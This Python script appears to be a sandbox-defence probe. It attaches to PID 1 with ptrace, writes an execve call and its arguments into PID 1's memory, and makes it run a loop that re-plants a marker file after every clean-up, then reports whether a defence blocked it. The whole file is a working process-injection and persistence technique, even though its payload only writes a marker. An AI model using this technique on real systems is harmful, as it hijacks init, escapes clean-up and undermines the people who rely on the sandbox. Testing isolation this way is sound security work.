# Attack: take over PID 1 of the sandbox with ptrace and make it exec a program of ours. PID 1 is never killed by a
# clean-up, so from then on it re-plants a file after every clean-up. x86_64 only (the machines here).
# Prints "blocked: <where>" when a defence stops it, "took over PID 1" when it succeeded.
import ctypes, os, struct, sys, time

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
PTRACE_GETREGS, PTRACE_SETREGS, PTRACE_ATTACH, PTRACE_DETACH = 12, 13, 16, 17
NAMES = ("r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss fs_base gs_base "
         "ds es fs gs").split()


class Regs(ctypes.Structure):
    _fields_ = [(n, ctypes.c_ulonglong) for n in NAMES]


PERSIST = r"""
import os, time
while True:
    try:
        open('/workspace/planted-by-pid1', 'w').write('x')
    except OSError:
        pass
    try:
        while os.waitpid(-1, os.WNOHANG)[0] > 0:
            pass
    except ChildProcessError:
        pass
    time.sleep(0.01)
"""

if libc.ptrace(PTRACE_ATTACH, 1, None, None) != 0:
    print("blocked: attach:", os.strerror(ctypes.get_errno()))
    sys.exit(0)
os.waitpid(1, 0x40000000)  # __WALL: the tracee is not our child
regs = Regs()
libc.ptrace(PTRACE_GETREGS, 1, None, ctypes.byref(regs))
try:
    mem = os.open("/proc/1/mem", os.O_RDWR)
except OSError as e:
    libc.ptrace(PTRACE_DETACH, 1, None, None)
    print("blocked: mem:", e)
    sys.exit(0)
if os.pread(mem, 2, regs.rip - 2) != b"\x0f\x05":
    libc.ptrace(PTRACE_DETACH, 1, None, None)
    print("blocked: PID 1 is not in a system call")
    sys.exit(0)
# strings and the argv array below PID 1's stack pointer (past the red zone)
base = (regs.rsp - 65536) & ~0xF
strings = [b"/usr/bin/python3\0", b"python3\0", b"-c\0", PERSIST.encode() + b"\0"]
addrs, blob = [], b""
for s in strings:
    addrs.append(base + len(blob))
    blob += s
argv_at = (base + len(blob) + 15) & ~0xF
blob = blob.ljust(argv_at - base, b"\0") + struct.pack("<4Q", addrs[1], addrs[2], addrs[3], 0) + struct.pack("<Q", 0)
os.pwrite(mem, blob, base)
regs.rax, regs.orig_rax = 59, 0xFFFFFFFFFFFFFFFF  # execve, and no restart of the interrupted call
regs.rdi, regs.rsi, regs.rdx = addrs[0], argv_at, argv_at + 32
regs.rip -= 2
libc.ptrace(PTRACE_SETREGS, 1, None, ctypes.byref(regs))
libc.ptrace(PTRACE_DETACH, 1, None, None)
time.sleep(0.3)
print("took over PID 1" if os.path.exists("/workspace/planted-by-pid1") else "blocked: PID 1 did not exec")
